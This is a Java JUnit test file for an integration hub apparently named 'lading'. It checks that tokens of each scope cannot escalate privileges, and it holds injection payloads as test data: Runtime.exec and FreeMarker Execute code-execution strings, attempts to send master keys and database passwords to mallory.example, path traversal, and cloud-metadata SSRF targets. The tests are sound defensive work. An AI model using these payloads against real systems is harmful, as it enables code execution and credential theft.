package io.lading.api;

import static org.assertj.core.api.Assertions.assertThat;

import io.lading.security.Secret;
import io.lading.tracking.Audit;
import io.lading.tracking.StoredSecrets;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/** A holder of each scope tries to become administrator: to run code, to read the hub's keys, to write where the hub looks. */
class EscalationTest {
    private static ServedHub hub;
    private static final Map<String, String> TOKENS = new LinkedHashMap<>();

    @BeforeAll
    static void makeATokenOfEachScope() {
        hub = ServedHub.shared();
        for (String scope : List.of("read", "operate", "configure", "security")) {
            TOKENS.put(scope, token("escalate-" + scope, "\"scopes\":[\"" + scope + "\"]"));
        }
        TOKENS.put("submit", token("escalate-submit", "\"scopes\":[\"submit\",\"read\"],\"partner\":\"globex\""));
        TOKENS.put("partner", hub.globex);
        hub.part(StoredSecrets.class).set("umbrella-out", "umbrella", Secret.of("another's"), "test");
    }

    private static String token(String name, String more) {
        ServedHub.Answer made =
                hub.post(hub.administrator, "/api/v1/tokens", "{\"name\":\"" + name + "\"," + more + "}");
        assertThat(made.status()).as(made.text()).isEqualTo(201);
        return made.json().path("token").asString();
    }

    private static String configure() {
        return String.valueOf(TOKENS.get("configure"));
    }

    // ---- code ------------------------------------------------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<jb:expression property=\"x\" execOnElement=\"PO1\">java.lang.Runtime.getRuntime().exec(\"touch FILE\")</jb:expression>",
                "<jb:value property=\"x\" data=\"850/BEG/BEG03\" decoder=\"MVEL\"/>",
                "<jb:wiring beanType=\"java.lang.ProcessBuilder\"/>"
            })
    void aProposedMapThatWouldRunCodeIsRefusedWhereItStandsAndTheTryIsAudited(String element) throws IOException {
        Path proof = hub.folder.resolve("run-by-a-map");
        String smooks = Files.readString(Path.of("mappings/smooks/acme-850/smooks.xml"))
                .replace(
                        "<jb:wiring property=\"lines\"",
                        element.replace("FILE", proof.toString()) + "\n<jb:wiring property=\"lines\"");
        long before = newest();

        ServedHub.Answer answer = hub.post(
                configure(), "/api/v1/partners/plan", proposal(files(), Map.of("smooks/acme-850/smooks.xml", smooks)));

        assertThat(answer.status()).as(answer.text()).isEqualTo(200);
        assertThat(problems(answer))
                .anyMatch(text -> text.contains("is not allowed") || text.contains("expects String"));
        assertThat(answer.json().path("problems").toString()).contains("smooks/acme-850/smooks.xml");
        assertThat(answer.json().has("replay")).isFalse();
        assertThat(proof).doesNotExist();
        assertThat(since(before)).anyMatch(line -> line.startsWith("token escalate-configure partners.planned"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${\"freemarker.template.utility.Execute\"? new()(\"touch FILE\")}",
                "<#include \"data/admin-token\">",
                "${order?api.class}"
            })
    void aProposedTemplateThatWouldRunCodeOrReadFilesIsRefused(String line) throws IOException {
        Path proof = hub.folder.resolve("run-by-a-template");
        String template = Files.readString(Path.of("mappings/xml/acme-order/order.xml.ftl"))
                .replace("<Items>", line.replace("FILE", proof.toString()) + "\n<Items>");

        ServedHub.Answer answer = hub.post(
                configure(),
                "/api/v1/partners/plan",
                proposal(files(), Map.of("xml/acme-order/order.xml.ftl", template)));

        assertThat(problems(answer)).anyMatch(text -> text.startsWith("A template must not use "));
        assertThat(proof).doesNotExist();
    }

    // ---- keys and other people's secrets
    // -----------------------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(
            strings = {
                "file:admin-token",
                "file:master-key",
                "file:database/lading.password",
                "file:secrets/../admin-token",
                "file:/etc/hostname",
                "file:exchange/x",
                "env:PATH",
                "env:LADING_DATABASE_PASSWORD",
                "env:LADING_SECURITY_MASTER_KEY",
                "secret:umbrella-out"
            })
    void noPartnerFileSendsAKeyOrAnothersSecretAnywhere(String reference) {
        refused("out: { door: http, url: \"https://mallory.example/x\", bearer: \"" + reference + "\" }");
        refused("out: { door: http, url: \"https://mallory.example/x\", headers: { X-Take: \"" + reference + "\" } }");
        refused("in: { door: mail, direction: in, host: mallory.example, user: m, password: \"" + reference + "\" }");
        refused("out: { door: sftp, direction: out, host: mallory.example, folder: /, user: m, password: \"" + reference
                + "\", hostKey: \"SHA256:uNiVztksCsDhcc0u9e8BgrJXVGDsdkT6GnRXp2VqPGE\" }");
    }

    @Test
    void noPlaceholderShowsAVariableOfTheHub() {
        List<String> told = refused("out: { door: http, url: \"https://mallory.example/${PATH}\" }");

        assertThat(told).anyMatch(text -> text.contains("which security.variables in lading.yaml must permit"));
        assertThat(String.join("", told)).doesNotContain(System.getenv("PATH"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"../data/admin-token", "../../data/master-key", "/etc/hostname"})
    void noFileIsReadThatDoesNotTravelWithThePartnerFiles(String name) {
        assertThat(refusedFile("lookups: { units: { file: \"" + name + "\" } }\n"))
                .anyMatch(text -> text.contains("may not be named here"))
                .noneMatch(text -> text.contains("found 'ldg_"));
        assertThat(refusedFile("certificates: [ { file: \"" + name + "\" } ]\n"))
                .anyMatch(text -> text.contains("may not be named here"));
        refused("out: { door: http, url: \"https://mallory.example/x\", trust: \"" + name + "\" }");
        refused("out: { door: mail, direction: out, host: mallory.example, trust: \"" + name
                + "\", from: [ a@b.example ], to: [ c@d.example ] }");
    }

    // ---- folders and addresses
    // ---------------------------------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(
            strings = {
                "..",
                "../mailboxes/globex/out",
                "../../routes/inbound",
                "/tmp/pwn",
                "/etc",
                "a/../../secrets",
                "in?move=${bean:x}",
                "in&preMove=x",
                "in#x"
            })
    void noFolderDoorReachesOutOfTheExchangeFolder(String path) throws IOException {
        refused("out: { door: folder, direction: out, path: \"" + path + "\" }");
        refused("in: { door: folder, direction: in, path: \"" + path + "\" }");
    }

    @Test
    void noFolderDoorReachesOutByALink() throws IOException {
        Path exchange = Files.createDirectories(hub.folder.resolve("data/exchange"));
        Path link = exchange.resolve("escalate-link");
        Files.deleteIfExists(link);
        Files.createSymbolicLink(link, hub.folder.resolve("data"));

        refused("in: { door: folder, direction: in, path: escalate-link }");
        refused("out: { door: folder, direction: out, path: escalate-link/spool }");
        Files.delete(link);
    }

    @ParameterizedTest
    @ValueSource(strings = {"loopback", "private", "169.254.169.254/32", "127.0.0.0/8", "localhost"})
    void noPartnerFileAllowsItselfWhatTheHubMayNotCall(String target) {
        refused("out: { door: http, url: \"http://127.0.0.1:9/x\", allowTargets: [ \"" + target + "\" ] }");
        refused("out: { door: http, url: \"http://169.254.169.254/x\", allowTargets: [ \"" + target + "\" ] }");
    }

    // ---- what belongs to the administrator --------------------------------------------------------------------------

    @Test
    void noScopeMakesTokensAndNoneReachesIntoAnother() throws IOException {
        Map<String, List<String>> may = Map.of(
                "configure", List.of("plan"),
                "security", List.of("secrets"),
                "operate", List.of("test"));
        List<String> wrong = new ArrayList<>();
        for (Map.Entry<String, String> holder : TOKENS.entrySet()) {
            Map<String, Integer> statuses = new LinkedHashMap<>();
            statuses.put("tokens", hub.get(holder.getValue(), "/api/v1/tokens").status());
            statuses.put(
                    "make a token",
                    hub.post(holder.getValue(), "/api/v1/tokens", "{\"name\":\"mine\",\"scopes\":[\"security\"]}")
                            .status());
            statuses.put(
                    "secrets", hub.get(holder.getValue(), "/api/v1/secrets").status());
            statuses.put(
                    "plan",
                    hub.post(holder.getValue(), "/api/v1/partners/plan", proposal(files(), Map.of()))
                            .status());
            statuses.put(
                    "test",
                    hub.post(holder.getValue(), "/api/v1/partners/hooli/test", "{}")
                            .status());
            statuses.forEach((what, status) -> {
                boolean allowed = may.getOrDefault(holder.getKey(), List.of()).contains(what)
                        || (holder.getKey().equals("configure") && what.equals("test"));
                if (allowed != (status == 200) || (!allowed && status != 403)) {
                    wrong.add(holder.getKey() + " " + what + " " + status);
                }
            });
        }
        assertThat(wrong).isEmpty();
    }

    @Test
    void whoTriesAConnectionIsAudited() {
        long before = newest();

        hub.post(
                TOKENS.get("operate"),
                "/api/v1/partners/hooli/test",
                "{\"connection\":\"acks-out\",\"send\":{\"name\":\"a.x12\",\"content\":\"SVNB\"}}");

        assertThat(since(before))
                .contains("token escalate-operate connection.tested hooli/acks-out sends a.x12, 3 bytes");
    }

    // ---- means -----------------------------------------------------------------------------------------------------

    /** Plans and applies; neither may take the files, and nothing may be in force afterwards. */
    private static List<String> refused(String connection) {
        return refusedFile("connections:\n  " + connection + "\n");
    }

    private static List<String> refusedFile(String rest) {
        try {
            Map<String, String> files = files();
            files.put("mallory.yaml", "partner: mallory\n" + rest);
            ServedHub.Answer planned = hub.post(configure(), "/api/v1/partners/plan", proposal(files, Map.of()));
            assertThat(problems(planned))
                    .as("problems of %s: %s", rest, planned.text())
                    .isNotEmpty();
            ObjectNode body = (ObjectNode) JsonMapper.shared().readTree(proposal(files, Map.of()));
            body.put("expected", planned.json().path("inForce").asLong());
            ServedHub.Answer applied = hub.post(configure(), "/api/v1/partners/apply", body.toString());
            assertThat(applied.status()).as("%s: %s", rest, applied.text()).isEqualTo(422);
            return problems(planned);
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    private static List<String> problems(ServedHub.Answer answer) {
        List<String> messages = new ArrayList<>();
        for (JsonNode problem : answer.json().path("problems")) {
            messages.add(problem.path("message").asString(""));
        }
        return messages;
    }

    /** Today's partner files. */
    private static Map<String, String> files() {
        Map<String, String> files = new LinkedHashMap<>();
        hub.get(hub.administrator, "/api/v1/partners/export")
                .json()
                .path("files")
                .properties()
                .forEach(file -> files.put(
                        file.getKey(),
                        new String(
                                Base64.getDecoder().decode(file.getValue().asString()), StandardCharsets.ISO_8859_1)));
        return files;
    }

    private static String proposal(Map<String, String> files, Map<String, String> changedMappings) throws IOException {
        ObjectNode body = JsonMapper.shared().createObjectNode();
        ObjectNode contents = body.putObject("files");
        files.forEach((name, text) -> contents.put(name, base64(text.getBytes(StandardCharsets.ISO_8859_1))));
        if (!changedMappings.isEmpty()) {
            ObjectNode mappings = body.putObject("mappings");
            Path root = Path.of("mappings");
            try (Stream<Path> all = Files.walk(root)) {
                for (Path path : all.filter(Files::isRegularFile)
                        .filter(one -> !one.toString().contains("/cases/"))
                        .toList()) {
                    mappings.put(root.relativize(path).toString(), base64(Files.readAllBytes(path)));
                }
            }
            changedMappings.forEach((name, text) -> mappings.put(name, base64(text.getBytes(StandardCharsets.UTF_8))));
        }
        return body.toString();
    }

    private static String base64(byte[] bytes) {
        return Base64.getEncoder().encodeToString(bytes);
    }

    private static long newest() {
        return hub.part(Audit.class).latest(1).stream()
                .map(Audit.Entry::number)
                .findFirst()
                .orElse(0L);
    }

    private static List<String> since(long number) {
        return hub.part(Audit.class).latest(50).stream()
                .filter(entry -> entry.number() > number)
                .map(entry -> entry.actor() + " " + entry.action() + " " + entry.subject() + " " + entry.detail())
                .toList();
    }
}
